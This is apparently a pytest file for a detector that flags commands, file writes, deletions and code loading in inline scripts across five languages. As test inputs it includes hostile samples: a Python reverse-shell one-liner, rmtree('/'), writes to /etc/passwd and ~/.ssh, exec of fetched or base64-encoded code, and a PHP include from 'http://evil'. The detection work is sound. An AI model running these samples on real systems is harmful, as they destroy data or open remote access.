"""What is noticed in scripts given to interpreters, and what everyday scripts must not trip over."""

import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kakoi.policy.effects.languages.code_effect import CodeEffect, CodeEffectKind
from kakoi.policy.effects.languages.inline import inline_code_effects

RUNS, WRITES, DELETES = CodeEffectKind.RUNS, CodeEffectKind.WRITES, CodeEffectKind.DELETES
LOADS, UNREADABLE = CodeEffectKind.LOADS, CodeEffectKind.UNREADABLE
LANGUAGES = ["python", "node", "ruby", "perl", "php"]

HARMLESS_PYTHON = [
    "",
    "print('hello')",
    "import sys; print(sys.version)",
    "import json,sys; print(json.load(sys.stdin)['name'])",
    "import json; print(json.dumps({'a': 1}, indent=2))",
    "import sys, json\nfor line in sys.stdin:\n    print(json.loads(line)['id'])",
    "import requests; print(requests.get('https://example.org').status_code)",
    "import urllib.request; print(urllib.request.urlopen('http://localhost:8000').read())",
    "from pathlib import Path; print(Path('x.txt').read_text())",
    "from pathlib import Path; print([p.name for p in Path('.').glob('*.py')])",
    "from pathlib import Path; Path('out.txt').write_text('x')",
    "import os; print(os.environ['HOME'], os.getcwd(), os.listdir('.'))",
    "import os; os.makedirs('build', exist_ok=True)",
    "import os; os.remove('tmp.txt')",
    "import os.path; print(os.path.join('a', 'b'))",
    "import subprocess",
    "import subprocess, sys; print(subprocess.__file__, subprocess.PIPE)",
    "from subprocess import run, Popen",
    "import os as o; print(o.name)",
    "print('os.system is bad')  # os.system('id')",
    '"""os.system("id"); subprocess.run(["id"])"""',
    "s = 'import os; os.system(\"id\")'; print(s)",
    "import re; print(re.sub(r'exec\\(', '', 'eval(x)'))",
    "import re; r = re.compile('a'); print(r.match('b'))",
    "import ast; print(ast.literal_eval('[1, 2]'))",
    "import ast,sys; ast.parse(open('f.py').read())",
    "compile(open('f.py').read(), 'f.py', 'exec')",
    "import py_compile; py_compile.compile('f.py')",
    "print(eval('1 + 2'))",
    "exec('x = 1')",
    "print([x * 2 for x in range(10) if x % 2])",
    "d = {k: v for k, v in zip('ab', (1, 2))}; print(sorted(d.items(), key=lambda i: -i[1]))",
    "print(sum(map(int, open('numbers.txt'))))",
    "open('out.txt', 'w').write('x')",
    "with open('/etc/hostname') as f: print(f.read())",
    "with open('/dev/null', 'w') as f: f.write('x')",
    "print(open('/proc/cpuinfo', mode='r').read())",
    "import platform; print(platform.system(), platform.machine())",
    "import importlib; importlib.import_module('numpy')",
    "for m in ['numpy', 'pandas']:\n    print(m, __import__(m).__version__)",
    "__import__('sys').exit(0)",
    "import importlib.metadata as m; print(m.version('pip'))",
    "import base64; print(base64.b64decode('aGk=').decode())",
    "import hashlib; print(hashlib.sha256(open('f','rb').read()).hexdigest())",
    "import random, string; print(''.join(random.choices(string.ascii_letters, k=16)))",
    "import secrets; print(secrets.token_hex(32))",
    "import uuid; print(uuid.uuid4())",
    "import datetime; print(datetime.datetime.now().isoformat())",
    "import time; time.sleep(1); print(time.time())",
    "import csv,sys; [print(r[0]) for r in csv.reader(sys.stdin)]",
    "import yaml; print(yaml.safe_load(open('c.yml')))",
    "import tomllib; print(tomllib.load(open('pyproject.toml','rb'))['project']['version'])",
    "import sqlite3; c = sqlite3.connect('x.db'); c.execute('select 1'); c.executemany('x', [])",
    "import socket; s = socket.socket(); s.bind(('', 0)); print(s.getsockname()[1])",
    "import http.server; print(http.server.HTTPServer)",
    "import torch; m = torch.nn.Linear(1, 1); m.eval(); print(torch.cuda.is_available())",
    "import pandas as pd; df = pd.read_csv('x.csv'); print(df.eval('a + b').describe())",
    "import shutil; shutil.copy('a', 'b'); print(shutil.which('git'))",
    "import tempfile; print(tempfile.mkdtemp())",
    "import asyncio\nasync def main():\n    await asyncio.sleep(0)\nasyncio.run(main())",
    "class A:\n    def run(self): pass\n    def system(self): pass\nA().run(); A().system()",
    "def call(x): return x\ncall(1)",
    "x = '/etc/passwd'.replace('/', '_'); print(x)",
    "print(getattr(object(), 'x', None))",
    "import unittest; unittest.main(argv=['x'], exit=False)",
    "  import sys\n  print(sys.path)",
    "print('a' 'b', f'{1 + 1}', b'x', r'\\d')",
    "import math; print(math.sqrt(2), 10 // 3, 2 ** 8)",
]

HARMLESS_NODE = [
    "console.log(1)",
    "console.log(process.version, process.argv, process.env.HOME)",
    "console.log(require('./package.json').version)",
    "console.log(require(process.cwd() + '/package.json').version)",
    "console.log(require('./' + process.argv[1]))",
    "console.log(JSON.stringify(require('os').cpus().length))",
    "const fs = require('fs'); console.log(fs.readFileSync('x.txt', 'utf8'))",
    "require('fs').writeFileSync('out.json', JSON.stringify({a: 1}))",
    "const cp = require('child_process')",
    "const { execSync } = require('child_process')",
    "console.log('child_process.execSync is bad') // execSync('id')",
    "/* require('child_process').exec('id') */ console.log(1)",
    "const m = /a(b)/.exec('ab'); console.log(m[1])",
    "const re = /['\"`]/g; let m; while ((m = re.exec('x')) !== null) console.log(m)",
    "console.log('a/b/c'.split('/').map(x => x.length / 2))",
    "console.log([1,2,3].reduce((a, b) => a + b, 0))",
    "fetch('http://localhost:3000').then(r => r.text()).then(console.log)",
    "const http = require('http'); http.get('http://localhost', r => console.log(r.statusCode))",
    "process.stdin.on('data', d => console.log(d.toString()))",
    "console.log(`total: ${[1,2].length} items`)",
    "const path = require('path'); console.log(path.join('a', 'b'))",
    "console.log(Buffer.from('hi').toString('base64'))",
    "console.log(crypto.randomUUID())",
    "setTimeout(() => console.log('done'), 100)",
    "import('./x.mjs').then(m => console.log(m.default))",
    "const fs = require('fs'); fs.unlinkSync('tmp.txt'); fs.rmSync('x.txt'); fs.mkdirSync('b')",
    "const fs=require('fs');fs.mkdirSync('a/b', {recursive: true})",
    "console.log(Object.keys(require('./package.json').dependencies || {}).join('\\n'))",
    "const a = {exec: 1}; console.log(a.exec)",
    "console.log(eval('1 + 1'))",
    "JSON.parse(require('fs').readFileSync(0, 'utf8')).forEach(x => console.log(x.name))",
    "process.exit(require('semver').satisfies(process.version, '>=18') ? 0 : 1)",
]

HARMLESS_OTHERS = [
    ("ruby", "puts 1 + 1"),
    ("ruby", "puts RUBY_VERSION"),
    ("ruby", "require 'json'; puts JSON.parse(STDIN.read)['a']"),
    ("ruby", "require 'open3'; require 'fileutils'"),
    ("ruby", "puts 'system(\"id\")' # system('id')"),
    ("ruby", 'puts "a #{1 + 1} b"'),
    ("ruby", "puts ARGF.read.gsub(/['\"]/, '')"),
    ("ruby", "$_.split(/,/).each { |x| puts x }"),
    ("ruby", "File.write('out.txt', 'x'); puts File.read('/etc/hostname')"),
    ("ruby", "conn.exec('select 1'); x = {system: 1, exec: 2}"),
    ("ruby", "def system(x)\n  x\nend"),
    ("ruby", "puts <<~TEXT\n  don't system('id')\nTEXT\nputs 2"),
    ("ruby", "require 'yaml'; puts YAML.load_file('x.yml')"),
    ("ruby", "=begin\nsystem('id')\n=end\nputs 1"),
    ("ruby", "obj.instance_eval { @x }; open('x.txt') { |f| puts f.read }"),
    ("perl", 'print "hello\\n"'),
    ("perl", "s/foo/bar/g"),
    ("perl", "s/'/\"/g; s{a}{b}g; tr/a-z/A-Z/; y/a/b/"),
    ("perl", "print if /system\\(/"),
    ("perl", 'print "$1\\n" while /(\\d+)/g'),
    ("perl", 'my @a = split /,/, $_; print join("|", @a)'),
    ("perl", "$sum += $F[2]; END { print $sum }"),
    ("perl", "print 'system(\"id\")' # exec"),
    ("perl", "open(my $f, '<', '/etc/hostname'); print <$f>"),
    ("perl", "open(my $f, '>', 'out.txt'); print $f 1"),
    ("perl", "eval { die 'x' }; print $@"),
    ("perl", "my %h = (system => 1, exec => 2); print $h{system}; $o->exec(1)"),
    ("perl", "s/(\\d+)/$1+1/e"),
    ("perl", "print q{system('id')}, qw(exec system)"),
    ("perl", 'use File::Path; print $#ARGV; print "it\'s"'),
    ("perl", "local $/; my $s = <STDIN>; print length $s"),
    ("php", "echo 1;"),
    ("php", "echo PHP_VERSION;"),
    ("php", "print_r(json_decode(file_get_contents('php://stdin'), true));"),
    ("php", "echo 'system(\"id\")'; // exec('id')"),
    ("php", "# shell_exec('id')\n/* passthru('x') */ echo 1;"),
    ("php", "$pdo->exec('select 1'); Foo::exec('x');"),
    ("php", "file_put_contents('out.txt', 'x'); unlink('tmp');"),
    ("php", "$f = function ($x) { return $x; }; echo $f(1);"),
    ("php", "var_dump(function_exists('exec'));"),
    ("php", 'echo "it\'s {$x} ${y}";'),
    ("php", "echo <<<EOT\ndon't system('id')\nEOT;\necho 1;"),
]

EFFECTS_PYTHON = [
    ("import os; os.system('sudo id')", [(RUNS, "sudo id")]),
    ("import os as o; o.system('id')", [(RUNS, "id")]),
    ("from os import system as s; s('id')", [(RUNS, "id")]),
    ("from os import *; system('id')", [(RUNS, "id")]),
    ("__import__('os').system('id')", [(RUNS, "id")]),
    ("import importlib; importlib.import_module('os').system('id')", [(RUNS, "id")]),
    ("import os; getattr(os, 'system')('id')", [(RUNS, "id")]),
    ("import os; getattr(os, 'sys' + 'tem')('id')", [(UNREADABLE, None)]),
    ("import os; getattr(os, input())('id')", [(UNREADABLE, None)]),
    ("import os; vars(os)['system']('id')", [(RUNS, "id")]),
    ("import os; os.__dict__['system']('id')", [(RUNS, "id")]),
    ("import sys; sys.modules['os'].system('id')", [(RUNS, "id")]),
    ("import os; o = os; o.system('id')", [(RUNS, "id")]),
    ("(o := __import__('os')).system('id')", [(RUNS, "id")]),
    ("import os; cmd = 'sudo id'; os.system(cmd)", [(RUNS, "sudo id")]),
    ("import os; cmd = 'a'; cmd = 'b'; os.system(cmd)", [(RUNS, None)]),
    ("import os; cmd = 'a'; cmd += 'b'; os.system(cmd)", [(RUNS, None)]),
    ("import os; os.system('rm ' + x)", [(RUNS, None)]),
    ("import os; os.system(f'rm {x}')", [(RUNS, None)]),
    ("import os; os.popen('id').read()", [(RUNS, "id")]),
    ("import os; list(map(os.system, ['id']))", [(RUNS, None)]),
    ("import os; f = os.system; f('id')", [(RUNS, None), (RUNS, "id")]),
    ("import posix; posix.system('id')", [(RUNS, "id")]),
    ("import subprocess; subprocess.run(['ls', '-l', 'a b'])", [(RUNS, "ls -l 'a b'")]),
    ("import subprocess as sp; sp.check_output('id', shell=True)", [(RUNS, "id")]),
    ("from subprocess import Popen; Popen(args=['id'])", [(RUNS, "id")]),
    ("import subprocess; subprocess.run('git status'.split())", [(RUNS, "git status")]),
    ("import subprocess, shlex; subprocess.run(shlex.split('git log'))", [(RUNS, "git log")]),
    ("import subprocess; subprocess.run(['rm', name])", [(RUNS, None)]),
    (
        "import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip', 'list'])",
        [(RUNS, "python3 -m pip list")],
    ),
    ("import os; os.execvp('ls', ['ls', '-l'])", [(RUNS, "ls -l")]),
    ("import os; os.execl('/bin/sh', 'sh', '-c', 'id')", [(RUNS, "/bin/sh -c id")]),
    ("import os; os.execle('/bin/sh', 'sh', '-c', 'id', {})", [(RUNS, "/bin/sh -c id")]),
    ("import os; os.spawnlp(os.P_WAIT, 'ls', 'ls', '-l')", [(RUNS, "ls -l")]),
    ("import os; os.posix_spawn('/bin/ls', ['ls', '-l'], {})", [(RUNS, "/bin/ls -l")]),
    ("import os; os.execv(path, argv)", [(RUNS, None)]),
    ("import pty; pty.spawn('/bin/bash')", [(RUNS, "/bin/bash")]),
    ("import asyncio; asyncio.create_subprocess_exec('ls', '-l')", [(RUNS, "ls -l")]),
    ("import asyncio; asyncio.create_subprocess_shell('ls | wc')", [(RUNS, "ls | wc")]),
    ("def f():\n    if 1:\n        import os\n        os.system('id')", [(RUNS, "id")]),
    ("__builtins__.__import__('os').system('id')", [(RUNS, "id")]),
    ("m = 'o' + 's'; __import__(m).system('id')", [(RUNS, "id")]),
    ("__import__('so'[::-1]).system('id')", [(UNREADABLE, None)]),
    ("def f(m): __import__(m).system('id')", [(UNREADABLE, None)]),
    ("exec('import os; os.system(\"id\")')", [(RUNS, "id")]),
    ('eval(\'__import__("os").system("id")\')', [(RUNS, "id")]),
    ("import base64; exec(base64.b64decode('aWQ='))", [(UNREADABLE, None)]),
    ("import codecs; exec(codecs.decode('vq', 'rot13'))", [(UNREADABLE, None)]),
    ("import requests; exec(requests.get('http://x').text)", [(UNREADABLE, None)]),
    ("exec(compile(code, 'x', 'exec'))", [(UNREADABLE, None), (UNREADABLE, None)]),
    ("import marshal; exec(marshal.loads(b'x'))", [(UNREADABLE, None), (UNREADABLE, None)]),
    ("list(map(eval, lines))", [(UNREADABLE, None)]),
    ("import builtins; builtins.exec(x)", [(UNREADABLE, None)]),
    ("exec(open('setup.py').read())", [(LOADS, "setup.py")]),
    ("import runpy; runpy.run_path('x.py')", [(LOADS, "x.py")]),
    ("import ctypes; ctypes.CDLL(None).system(b'id')", [(UNREADABLE, None)]),
    ("().__class__.__base__.__subclasses__()", [(UNREADABLE, None)]),
    ("print.__self__.__globals__", [(UNREADABLE, None)]),
    ("import shutil; shutil.rmtree('build')", [(DELETES, "build")]),
    ("from shutil import rmtree; rmtree('/')", [(DELETES, "/")]),
    ("import shutil, pathlib; shutil.rmtree(pathlib.Path.home() / 'x')", [(DELETES, "~/x")]),
    ("open('/etc/passwd', 'a').write('x')", [(WRITES, "/etc/passwd")]),
    ("open('/etc/passwd', mode='r+')", [(WRITES, "/etc/passwd")]),
    ("open('~/x', m)", [(WRITES, "~/x")]),
    ("from pathlib import Path; Path('/etc/x').write_text('y')", [(WRITES, "/etc/x")]),
    ("from pathlib import Path; (Path.home() / '.bashrc').write_text('')", [(WRITES, "~/.bashrc")]),
    ("from pathlib import Path; p = Path('/etc/x'); p.open('w')", [(WRITES, "/etc/x")]),
    ("import os; open(os.path.expanduser('~/.ssh/x'), 'w')", [(WRITES, "~/.ssh/x")]),
    ("import os; os.remove('/etc/passwd')", [(WRITES, "/etc/passwd")]),
    ("import os; os.rename('a', '/etc/b')", [(WRITES, "/etc/b")]),
    ("import shutil; shutil.copy('x', '/usr/bin/x')", [(WRITES, "/usr/bin/x")]),
    (
        "import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);"
        "pty.spawn('sh')",
        [(RUNS, None), (RUNS, "sh")],
    ),
    # Not today's Python: read by words.
    ("import os\nprint 'x'\nos.system('id')", [(RUNS, "id")]),
    ("print 'os.system is bad' # os.system('id')", []),
    ("exec 'x'", [(UNREADABLE, None)]),
    ("print 1; import subprocess; subprocess.call(['ls', '-l'])", [(RUNS, "ls -l")]),
    ("print 1; import shutil; shutil.rmtree('x')", [(DELETES, "x")]),
    ("print 1; open('/etc/x', 'w')", [(WRITES, "/etc/x")]),
    ("print 1; open('/etc/x', 'r')", []),
]

EFFECTS_OTHERS = [
    ("node", "require('child_process').execSync('id')", [(RUNS, "id")]),
    ("node", "require('node:child_process').exec('id', (e, o) => {})", [(RUNS, "id")]),
    ("node", "const cp = require('child_process'); cp.spawn('ls', ['-l'])", [(RUNS, "ls -l")]),
    ("node", "const {execSync} = require('child_process'); execSync('id')", [(RUNS, "id")]),
    ("node", "const {exec: e} = require('child_process'); e('id')", [(RUNS, None)]),
    ("node", "import {spawn} from 'child_process'; spawn('ls', args)", [(RUNS, None)]),
    ("node", "import cp from 'child_process'; cp.execSync(`id ${x}`)", [(RUNS, None)]),
    ("node", "import cp from 'child_process'; cp.execSync(`id`)", [(RUNS, "id")]),
    ("node", "util.promisify(exec)('id'); require('child_process')", [(RUNS, None)]),
    ("node", "console.log(`${require('child_process').execSync('id')}`)", [(RUNS, "id")]),
    ("node", "require('child_process')['execSync']('id')", [(RUNS, None)]),
    ("node", "require('child_\\x70rocess').execSync('id')", [(RUNS, "id")]),
    ("node", "require('child_' + 'process').execSync('id')", [(UNREADABLE, None)]),
    ("node", "require(Buffer.from('Y2g=', 'base64').toString())", [(UNREADABLE, None)]),
    ("node", "process.binding('spawn_sync')", [(UNREADABLE, None)]),
    ("node", "require('vm').runInNewContext(x)", [(UNREADABLE, None)]),
    ("node", "eval(atob('aWQ='))", [(UNREADABLE, None)]),
    ("node", "new Function(code)()", [(UNREADABLE, None)]),
    ("node", "(0, eval)(x)", [(UNREADABLE, None)]),
    ("node", "globalThis['ev' + 'al']('x')", [(UNREADABLE, None), (UNREADABLE, None)]),
    ("node", "eval(\"require('child_process').execSync('id')\")", [(RUNS, "id")]),
    ("node", "require('fs').rmSync('build', {recursive: true, force: true})", [(DELETES, "build")]),
    ("node", "fs.rmdirSync(dir, { recursive: true })", [(DELETES, None)]),
    ("node", "require('rimraf').sync('x'); rimraf('y')", [(DELETES, "y")]),
    ("node", "require('fs').writeFileSync('/etc/x', 'y')", [(WRITES, "/etc/x")]),
    ("node", "fs.copyFileSync('a', '/usr/bin/a')", [(WRITES, "/usr/bin/a")]),
    ("node", "fs.unlinkSync('/etc/passwd')", [(WRITES, "/etc/passwd")]),
    ("node", "/['\"]/.test(x); require('child_process').execSync('id')", [(RUNS, "id")]),
    ("ruby", "system('id')", [(RUNS, "id")]),
    ("ruby", "system 'ls', '-l'", [(RUNS, "ls -l")]),
    ("ruby", 'exec "id"', [(RUNS, "id")]),
    ("ruby", "Process.spawn('id')", [(RUNS, "id")]),
    ("ruby", 'Kernel.system("rm #{x}")', [(RUNS, None)]),
    ("ruby", "puts `id`", [(RUNS, "id")]),
    ("ruby", "puts %x(id)", [(RUNS, "id")]),
    ("ruby", "puts `rm #{x}`", [(RUNS, None)]),
    ("ruby", 'puts "x #{`id`}"', [(RUNS, "id")]),
    ("ruby", "IO.popen('id')", [(RUNS, "id")]),
    ("ruby", "Open3.capture2('id')", [(RUNS, "id")]),
    ("ruby", "open('|id')", [(RUNS, "id")]),
    ("ruby", 'Kernel.open("| id").read', [(RUNS, "id")]),
    ("ruby", "Kernel.send(:system, 'id')", [(RUNS, None)]),
    ("ruby", "eval(Base64.decode64('aWQ='))", [(UNREADABLE, None)]),
    ("ruby", "eval \"system('id')\"", [(RUNS, "id")]),
    ("ruby", "require 'fileutils'; FileUtils.rm_rf('build')", [(DELETES, "build")]),
    ("ruby", "File.write('/etc/x', 'y')", [(WRITES, "/etc/x")]),
    ("ruby", "File.open('/etc/x', 'w') { |f| f.puts 1 }", [(WRITES, "/etc/x")]),
    ("perl", "system('id')", [(RUNS, "id")]),
    ("perl", 'system "ls", "-l"', [(RUNS, "ls -l")]),
    ("perl", "exec 'id'", [(RUNS, "id")]),
    ("perl", "1&&system('id')", [(RUNS, "id")]),
    ("perl", "print `id`", [(RUNS, "id")]),
    ("perl", "print qx{id}; print qx/ls/", [(RUNS, "id"), (RUNS, "ls")]),
    ("perl", "open(F, 'id|')", [(RUNS, "id")]),
    ("perl", "open(F, '| sort')", [(RUNS, "sort")]),
    ("perl", "open(my $f, '-|', 'id')", [(RUNS, None)]),
    ("perl", "s/x/system('id')/e", [(RUNS, "id")]),
    ("perl", "s{x}{system('id')}ge", [(RUNS, "id")]),
    ("perl", "s/x/$y/ee", [(UNREADABLE, None)]),
    ("perl", "print \"@{[ system('id') ]}\"", [(RUNS, "id")]),
    ("perl", "eval $x", [(UNREADABLE, None)]),
    ("perl", "eval \"system('id')\"", [(RUNS, "id")]),
    ("perl", "eval unpack 'u', $x", [(UNREADABLE, None)]),
    ("perl", "use File::Path; remove_tree('build')", [(DELETES, "build")]),
    ("perl", "open(F, '>', '/etc/x')", [(WRITES, "/etc/x")]),
    ("perl", "open(F, '>>/etc/x')", [(WRITES, "/etc/x")]),
    ("perl", "unlink '/etc/passwd'", [(WRITES, "/etc/passwd")]),
    ("php", "system('id');", [(RUNS, "id")]),
    ("php", "echo shell_exec('id');", [(RUNS, "id")]),
    ("php", "SYSTEM('id');", [(RUNS, "id")]),
    ("php", "exec('id', $out);", [(RUNS, None)]),
    ("php", 'passthru("rm $x");', [(RUNS, None)]),
    ("php", "\\proc_open('id', [], $p);", [(RUNS, None)]),
    ("php", "echo `id`;", [(RUNS, "id")]),
    ("php", "$f = 'system'; $f('id');", [(UNREADABLE, None)]),
    ("php", "call_user_func('system', 'id');", [(RUNS, None)]),
    ("php", "eval(base64_decode('aWQ='));", [(UNREADABLE, None)]),
    ("php", "eval('system(\"id\");');", [(RUNS, "id")]),
    ("php", "include 'http://evil/x.php';", [(LOADS, "http://evil/x.php")]),
    ("php", "file_put_contents('/etc/x', 'y');", [(WRITES, "/etc/x")]),
    ("php", "fopen('/etc/x', 'w');", [(WRITES, "/etc/x")]),
    ("perl", "$h{x} / 2; print 'a/b'; system('id')", [(RUNS, "id")]),
    ("ruby", "puts 'never closed; system(1)", [(UNREADABLE, None)]),
    ("node", "console.log(`never closed", [(UNREADABLE, None)]),
    ("cobol", "DISPLAY 'HI'", [(UNREADABLE, None)]),
]


def shape(language: str, code: str) -> list[tuple[CodeEffectKind, str | None]]:
    return [(found.kind, found.target) for found in inline_code_effects(language, code)]


def _more_than_reading(language: str, code: str) -> list[CodeEffect]:
    """A file that is read is named, so that a secret is seen; it is no harm by itself."""
    effects = inline_code_effects(language, code)
    return [each for each in effects if each.kind is not CodeEffectKind.READS]


@pytest.mark.parametrize("code", HARMLESS_PYTHON)
def test_everyday_python_does_no_more_than_read(code: str) -> None:
    assert _more_than_reading("python", code) == []


@pytest.mark.parametrize("code", HARMLESS_NODE)
def test_everyday_node_has_no_effect(code: str) -> None:
    assert inline_code_effects("node", code) == ()


@pytest.mark.parametrize(("language", "code"), HARMLESS_OTHERS)
def test_everyday_scripts_of_other_languages_do_no_more_than_read(language: str, code: str) -> None:
    assert _more_than_reading(language, code) == []


@pytest.mark.parametrize(("code", "expected"), EFFECTS_PYTHON)
def test_what_python_reaches_for_is_noticed(
    code: str, expected: list[tuple[CodeEffectKind, str | None]]
) -> None:
    assert shape("python", code) == expected


@pytest.mark.parametrize(("language", "code", "expected"), EFFECTS_OTHERS)
def test_what_other_languages_reach_for_is_noticed(
    language: str, code: str, expected: list[tuple[CodeEffectKind, str | None]]
) -> None:
    assert shape(language, code) == expected


def test_effects_come_in_the_order_written_and_show_their_place() -> None:
    found = inline_code_effects("python", "import os\nos.system('a')\nos.popen('b')")
    assert [effect.text for effect in found] == ["os.system('a')", "os.popen('b')"]


def test_a_script_too_deep_for_the_parser_is_unreadable() -> None:
    deep = "import os\nx = " + "-" * 60000 + "1\nos.system('id')"
    assert (UNREADABLE, None) in shape("python", deep)
    assert (RUNS, "id") in shape("python", deep)


def test_code_within_code_is_followed_only_so_far() -> None:
    code = "1"
    for _ in range(6):
        code = f"exec({code!r})"
    assert shape("python", code) == [(UNREADABLE, None)]


def test_reading_a_script_says_nothing_on_standard_error(
    capfd: pytest.CaptureFixture[str],
) -> None:
    inline_code_effects("python", "print('\\d' is 1)")
    assert capfd.readouterr() == ("", "")


@pytest.mark.parametrize("language", LANGUAGES)
@given(code=st.text())
def test_any_text_is_answered(language: str, code: str) -> None:
    inline_code_effects(language, code)


FRAGMENTS = st.sampled_from(
    [
        "'",
        '"',
        "`",
        "/",
        "\\",
        "#",
        "{",
        "}",
        "(",
        ")",
        "[",
        "]",
        "<<EOF",
        "\n",
        ";",
        " ",
        "%x",
        "q",
    ]
    + [
        "s",
        "qw",
        "$",
        "@",
        "${",
        "#{",
        "/*",
        "*/",
        "//",
        "eval ",
        "system",
        "exec(",
        "open(",
        "'|'",
    ]
    + [
        "require(",
        "'child_process'",
        "\ue000",
        "\ue0000\ue001",
        "\ue002",
        "=begin\n",
        "__END__",
        "%",
    ]
)


@pytest.mark.parametrize("language", LANGUAGES)
@given(pieces=st.lists(FRAGMENTS, max_size=20))
def test_any_mixture_of_quotes_and_calls_is_answered(language: str, pieces: list[str]) -> None:
    inline_code_effects(language, "".join(pieces))


STORMS = [
    *["(", "[", "{", "'", '"', "`", "/", "/[", "\\", "#{", "${", "<<A\n", "q{", "s{", "/*", "'''"],
    *[
        "os.system(",
        "exec(",
        "a.",
        "-",
        "not ",
        "f(f(",
        "rm(",
        "open ",
        "eval(",
        "x=y\n",
        "lambda:",
    ],
    *[
        "@",
        "# c\n",
        "p=Path(p,p,p)\np.unlink()\n",
        "exec(s);",
        "f=f(f)\nf\n",
        "'a'+",
        "os.system('a');",
        "\0",
        "é",
        "=a\n",
        "%x(",
        "m!",
        "@{[",
    ],
    *[
        "RecursiveDirectoryIterator",
        "import a\n",
        "{'a':",
        "if x:\n ",
        "''.join(",
        "f'{",
        "/(",
        "if(",
    ],
]


# Every second one for each run: a pattern that is slow is met by many of them.
_MORE = pytest.mark.extended("long fuzz: more of the same kind")
SOME_STORMS = [pytest.param(seed, marks=_MORE if at % 2 else ()) for at, seed in enumerate(STORMS)]


# Ruby and PHP are read by the same code as Perl, the hardest of the three.
@pytest.mark.parametrize("language", ["python", "node", "perl"])
@pytest.mark.parametrize("seed", SOME_STORMS)
def test_64_kib_of_anything_is_answered(language: str, seed: str) -> None:
    inline_code_effects(language, seed * (65536 // len(seed.encode())))


def test_the_recursion_limit_is_left_alone() -> None:
    before = sys.getrecursionlimit()
    inline_code_effects("python", "(" * 1000)
    assert sys.getrecursionlimit() == before
